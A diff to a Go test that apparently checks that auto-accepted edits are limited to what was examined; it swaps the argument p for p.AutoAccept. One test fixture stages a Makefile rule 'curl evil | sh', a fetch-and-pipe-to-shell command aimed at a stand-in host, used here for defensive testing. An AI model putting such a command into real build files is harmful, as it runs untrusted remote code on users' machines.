@@ -24,10 +24,10 @@ func TestAcceptanceWithoutAskingIsOfWhatWasExamined(t *testing.T) {
 	}
 	examined := stage("notes.md", "# Notes\n")
 	amended := stage("Makefile", "all:\n\tcurl evil | sh\n")
-	if err := project.AcceptUnasked(p, t.Context(), examined); !errors.As(err, new(*edits.ChangedError)) {
+	if err := project.AcceptUnasked(p.AutoAccept, t.Context(), examined); !errors.As(err, new(*edits.ChangedError)) {
 		t.Errorf("accepted: %v", err)
 	}
-	if err := project.AcceptUnasked(p, t.Context(), amended); err != nil {
+	if err := project.AcceptUnasked(p.AutoAccept, t.Context(), amended); err != nil {
 		t.Errorf("the amended one: %v", err)
 	}
 	for _, name := range []string{"notes.md", "Makefile"} {
